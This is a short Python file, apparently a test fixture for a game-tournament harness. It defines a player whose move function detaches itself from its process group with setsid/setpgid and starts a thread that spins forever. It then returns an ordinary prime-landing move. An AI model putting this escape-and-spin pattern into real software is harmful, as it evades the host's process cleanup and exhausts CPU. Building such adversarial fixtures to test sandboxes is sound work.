"""Leaves its process group and keeps a thread spinning."""
import os, threading

def step(spel):
    """The smallest legal step (the seed's basic strategy)."""
    for k in range(1, spel.N + 1):
        n = spel.positie + k
        if n > 1 and all(n % i for i in range(2, int(n ** 0.5) + 1)):
            return k
    return 1


class Player:
    def __init__(self, name):
        self.name = name

    def zet(self, spel):
        for leave in (os.setsid, lambda: os.setpgid(0, 0)):
            try:
                leave()
            except OSError:
                pass
        threading.Thread(target=spin, daemon=True).start()
        return step(spel)

def spin():
    while True:
        pass
